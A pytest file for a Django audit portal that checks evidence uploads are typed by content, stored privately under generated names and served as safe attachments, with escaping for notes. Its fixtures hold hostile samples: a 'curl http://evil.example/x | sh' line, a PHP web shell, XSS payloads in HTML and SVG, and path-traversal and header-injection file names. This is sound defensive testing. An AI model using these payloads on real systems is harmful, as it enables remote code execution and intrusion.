"""Evidence uploads: the type is read from the content, never from the name or the browser's
claim; names cannot steer where a file lands; files live under GOVWATCH_PRIVATE_ROOT and are
served only through the checked views, as attachments with nosniff."""

import io
import re
import uuid
import zipfile
from pathlib import Path
from urllib.parse import quote

import pytest
from django.conf import settings as django_settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from audits.models import Evidence, Rectification
from core.files import PDF, PNG, UploadRefused, check_upload
from tests.portal.test_rectification import FAST_HASHERS, confirmed_finding, png

pytestmark = pytest.mark.django_db

PDF_BYTES = b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(1)</script></svg>"
)
SHELL = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
PHP = b"<?php system($_GET['c']); ?>"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 50 + b"This program cannot be run in DOS"
REFUSED = "不支持该文件类型（按文件内容识别）"


def a_zip(**members: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in members.items():
            z.writestr(name, data)
    return out.getvalue()


@pytest.fixture(autouse=True)
def _fast_hashers(settings):
    settings.PASSWORD_HASHERS = FAST_HASHERS


@pytest.fixture
def roots(settings, tmp_path):
    settings.GOVWATCH_PRIVATE_ROOT = tmp_path / "private"
    settings.MEDIA_ROOT = tmp_path / "media"
    (tmp_path / "media").mkdir()
    return tmp_path / "private", tmp_path / "media"


@pytest.fixture
def finding(site_a, staff):
    return confirmed_finding(site_a, staff)


def files_under(root: Path) -> list[Path]:
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def multipart(note: str, files: list[tuple[str, bytes, str]]) -> tuple[bytes, str]:
    """A multipart body written by hand, so the file names reach the server exactly as given
    (the test client would strip directories from them first)."""
    boundary = f"gw{uuid.uuid4().hex}"
    parts = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="note"\r\n\r\n{note}\r\n'.encode()
    ]
    for name, data, content_type in files:
        head = (
            f"--{boundary}\r\n"
            f'Content-Disposition: form-data; name="files"; filename="{name}"\r\n'
            f"Content-Type: {content_type}\r\n\r\n"
        )
        parts.append(head.encode("utf-8") + data + b"\r\n")
    parts.append(f"--{boundary}--\r\n".encode())
    return b"".join(parts), f"multipart/form-data; boundary={boundary}"


def post_raw(client, finding, files, note="已更新栏目"):
    body, content_type = multipart(note, files)
    return client.post(
        reverse("portal:finding_detail", args=[finding.pk]), body, content_type=content_type
    )


def post(client, finding, *uploads, note="已更新栏目"):
    return client.post(
        reverse("portal:finding_detail", args=[finding.pk]), {"note": note, "files": list(uploads)}
    )


# --- check_upload: by content --------------------------------------------------------------


def test_a_png_named_pdf_is_a_png():
    kind, name, sha256 = check_upload(png(), "scan.pdf")
    assert kind == PNG and name == "scan.png"
    assert re.fullmatch(r"[0-9a-f]{64}", sha256)


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (HTML, "截图.png"),
        (SVG, "截图.png"),
        (SVG, "logo.svg"),
        (SHELL, "run.png"),
        (PHP, "shell.php.png"),
        (EXE, "报告.pdf"),
        (a_zip(**{"readme.txt": b"hi"}), "报告.docx"),
        (a_zip(**{"[Content_Types].xml": b"<Types/>", "evil.js": b"x"}), "报告.docx"),
        (b"PK\x03\x04 not really a zip", "报告.xlsx"),
        (b"GIF89a\x01\x00\x01\x00", "动图.gif"),
    ],
    ids=[
        "html",
        "svg-as-png",
        "svg",
        "script",
        "php",
        "exe",
        "zip",
        "zip-no-office-part",
        "broken-zip",
        "gif",
    ],
)
def test_content_that_is_not_evidence_is_refused_in_chinese(data, name):
    with pytest.raises(UploadRefused) as refused:
        check_upload(data, name)
    assert REFUSED in str(refused.value)
    assert "PNG 图片" in str(refused.value) and "PDF 文件" in str(refused.value)


def test_office_documents_are_recognised_from_their_parts():
    docx = a_zip(**{"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"})
    assert check_upload(docx, "通知.doc")[0].ext == "docx"
    assert check_upload(PDF_BYTES, "x.png")[0] == PDF


def test_empty_and_oversize_files_are_refused(settings):
    with pytest.raises(UploadRefused, match="文件是空的"):
        check_upload(b"", "a.png")
    settings.GOVWATCH_MAX_EVIDENCE_BYTES = 2048
    small = png()
    assert len(small) < 2048
    assert check_upload(small, "a.png")[0] == PNG
    big = png(size=(400, 400), color=(1, 2, 3)) + b"\x00" * 4096
    with pytest.raises(UploadRefused, match="文件超过"):
        check_upload(big, "a.png")


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("../../etc/passwd.png", "passwd.png"),
        ("C:\\evil\\x.png", "x.png"),
        ("/var/www/html/index.png", "index.png"),
        ("evil\x00.php.png", "evil_.php.png"),
        ("a\r\nSet-Cookie: x=1.png", "a_Set-Cookie_ x=1.png"),
        ("报告.php.png", "报告.php.png"),
        ("报告.png.php", "报告.png.png"),
        ("<svg onload=alert(1)>.png", "svg onload=alert(1).png"),
        ("..", "证据.png"),
        ("", "证据.png"),
    ],
)
def test_names_keep_no_path_or_control_characters_and_take_the_real_extension(name, shown):
    _, display, _ = check_upload(png(), name)
    assert display == shown
    assert "/" not in display and "\\" not in display
    assert not any(ord(c) < 32 for c in display)


def test_a_pdf_named_png_is_shown_with_its_real_extension():
    assert check_upload(PDF_BYTES, "报告.php.png")[1] == "报告.php.pdf"


def test_long_names_are_cut():
    _, display, _ = check_upload(png(), "长" * 300 + ".png")
    assert len(display) <= 100 and display.endswith(".png")


# --- through the portal ------------------------------------------------------------------------


def test_a_png_sent_as_pdf_is_stored_privately_under_a_generated_name(
    client, roots, finding, operator_a
):
    private, media = roots
    client.force_login(operator_a)
    data = png()
    upload = SimpleUploadedFile("整改截图.pdf", data, content_type="application/pdf")
    assert post(client, finding, upload).status_code == 302
    evidence = Evidence.objects.get()
    assert (evidence.name, evidence.content_type, evidence.size) == (
        "整改截图.png",
        "image/png",
        len(data),
    )
    stored = Path(evidence.file.path).resolve()
    assert stored.is_relative_to(private.resolve())
    assert re.fullmatch(r"[0-9a-f]{32}\.png", stored.name)
    assert stored.read_bytes() == data
    assert files_under(private) == [stored]
    assert files_under(media) == []
    # Nothing outside the application serves it: no media or static URL reaches it.
    relative = evidence.file.name
    assert client.get(f"/{django_settings.MEDIA_URL}{relative}").status_code == 404
    assert client.get(f"/{django_settings.STATIC_URL}{relative}").status_code == 404


def test_path_tricks_in_names_cannot_steer_where_a_file_lands(client, roots, finding, operator_a):
    private, media = roots
    client.force_login(operator_a)
    names = ["../../etc/passwd.png", "C:\\evil\\x.png", "报告.php.png"]
    response = post_raw(client, finding, [(n, png(), "image/png") for n in names])
    assert response.status_code == 302
    evidence = list(Evidence.objects.order_by("pk"))
    assert [e.name for e in evidence] == ["passwd.png", "x.png", "报告.php.png"]
    stored = files_under(private)
    assert len(stored) == 3
    assert all(re.fullmatch(r"[0-9a-f]{32}\.png", p.name) for p in stored)
    assert all(p.resolve().is_relative_to(private.resolve()) for p in stored)
    assert files_under(media) == []
    assert not (private.parent / "etc").exists()


def test_control_characters_in_a_name_never_reach_a_header(client, roots, finding, operator_a):
    client.force_login(operator_a)
    response = post_raw(client, finding, [("a\x01b\x7f\x1bc.php.png", png(), "text/html")])
    assert response.status_code == 302
    evidence = Evidence.objects.get()
    assert evidence.name.endswith(".png") and evidence.content_type == "image/png"
    assert not any(ord(c) < 32 or ord(c) == 127 for c in evidence.name)
    served = client.get(reverse("portal:evidence", args=[evidence.pk]))
    assert "\r" not in served["Content-Disposition"] and "\n" not in served["Content-Disposition"]


@pytest.mark.parametrize(
    ("data", "name", "browser_type"),
    [
        (HTML, "截图.png", "image/png"),
        (SVG, "截图.png", "image/png"),
        (SHELL, "截图.png", "image/png"),
        (EXE, "报告.pdf", "application/pdf"),
        (a_zip(**{"a.txt": b"x"}), "报告.docx", "application/zip"),
    ],
    ids=["html", "svg", "script", "exe", "zip"],
)
def test_a_refused_file_is_reported_and_nothing_is_kept(
    client, roots, finding, operator_a, data, name, browser_type
):
    private, _ = roots
    client.force_login(operator_a)
    response = post(client, finding, SimpleUploadedFile(name, data, content_type=browser_type))
    assert response.status_code == 200
    assert REFUSED in response.content.decode()
    assert not Rectification.objects.exists()
    finding.refresh_from_db()
    assert finding.rectification == "open"
    assert files_under(private) == []


def test_one_bad_file_refuses_the_whole_report(client, roots, finding, operator_a):
    private, _ = roots
    client.force_login(operator_a)
    response = post(
        client,
        finding,
        SimpleUploadedFile("ok.png", png(), content_type="image/png"),
        SimpleUploadedFile("bad.png", HTML, content_type="image/png"),
    )
    assert response.status_code == 200 and REFUSED in response.content.decode()
    assert not Rectification.objects.exists() and files_under(private) == []


def test_an_oversize_file_is_refused_through_the_portal(
    client, settings, roots, finding, operator_a
):
    private, _ = roots
    settings.GOVWATCH_MAX_EVIDENCE_BYTES = 2048
    client.force_login(operator_a)
    big = png() + b"\x00" * 4096
    response = post(client, finding, SimpleUploadedFile("big.png", big, content_type="image/png"))
    assert response.status_code == 200
    assert "文件超过" in response.content.decode()
    assert not Rectification.objects.exists() and files_under(private) == []


def test_at_most_five_files_at_once(client, roots, finding, operator_a):
    client.force_login(operator_a)
    uploads = [SimpleUploadedFile(f"{i}.png", png(), content_type="image/png") for i in range(6)]
    response = post(client, finding, *uploads)
    assert response.status_code == 200
    assert "每次最多上传 5 个文件" in response.content.decode()
    assert not Rectification.objects.exists()


# --- serving -----------------------------------------------------------------------------------


def store(client, finding, operator):
    """A PNG that also carries HTML after its header, reported as “报告.php.png”."""
    client.force_login(operator)
    data = png() + b"<html><script>alert(1)</script></html>"
    upload = SimpleUploadedFile("报告.php.png", data, content_type="text/html")
    assert post(client, finding, upload).status_code == 302
    return Evidence.objects.get(), data


def _assert_served_safely(response, data):
    assert response.status_code == 200
    assert response["Content-Type"] == "image/png"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert (
        response["Content-Disposition"] == f"attachment; filename*=UTF-8''{quote('报告.php.png')}"
    )
    assert b"".join(response.streaming_content) == data


def test_evidence_is_served_to_its_unit_and_to_staff_as_an_attachment(
    client, roots, finding, operator_a, staff
):
    evidence, data = store(client, finding, operator_a)
    client.force_login(operator_a)
    _assert_served_safely(client.get(reverse("portal:evidence", args=[evidence.pk])), data)
    client.force_login(staff)
    _assert_served_safely(client.get(reverse("dashboard:evidence", args=[evidence.pk])), data)


def test_evidence_is_hidden_from_another_unit_and_from_strangers(
    client, roots, finding, operator_a, operator_b
):
    evidence, _ = store(client, finding, operator_a)
    client.force_login(operator_b)
    assert client.get(reverse("portal:evidence", args=[evidence.pk])).status_code == 404
    assert client.get(reverse("dashboard:evidence", args=[evidence.pk])).status_code == 403
    client.force_login(operator_a)
    assert client.get(reverse("dashboard:evidence", args=[evidence.pk])).status_code == 403
    client.logout()
    response = client.get(reverse("portal:evidence", args=[evidence.pk]))
    assert response.status_code == 302 and "/login/" in response["Location"]


def test_script_in_the_note_is_escaped_for_the_unit_and_for_staff(
    client, roots, finding, operator_a, staff
):
    note = "已更新<script>alert('xss')</script>\n<img src=x onerror=alert(2)>"
    client.force_login(operator_a)
    upload = SimpleUploadedFile("<i>证据<i>.png", png(), content_type="image/png")
    assert post(client, finding, upload, note=note).status_code == 302

    for user, url in (
        (operator_a, reverse("portal:finding_detail", args=[finding.pk])),
        (staff, reverse("dashboard:rectification_list")),
    ):
        client.force_login(user)
        page = client.get(url).content.decode()
        assert "&lt;script&gt;alert(&#x27;xss&#x27;)&lt;/script&gt;" in page, url
        assert "<script>alert(" not in page, url
        assert "&lt;img src=x onerror=alert(2)&gt;" in page, url
        assert "<img src=x" not in page, url
        assert "<i>证据" not in page and "i_证据_i.png" in page, url


def test_the_private_root_is_outside_every_served_directory():
    private = Path(django_settings.GOVWATCH_PRIVATE_ROOT).resolve()
    served = [Path(django_settings.MEDIA_ROOT), Path(django_settings.STATIC_ROOT)]
    served += [Path(d) for d in django_settings.STATICFILES_DIRS]
    for root in served:
        root = root.resolve()
        assert not private.is_relative_to(root), root
        assert not root.is_relative_to(private), root
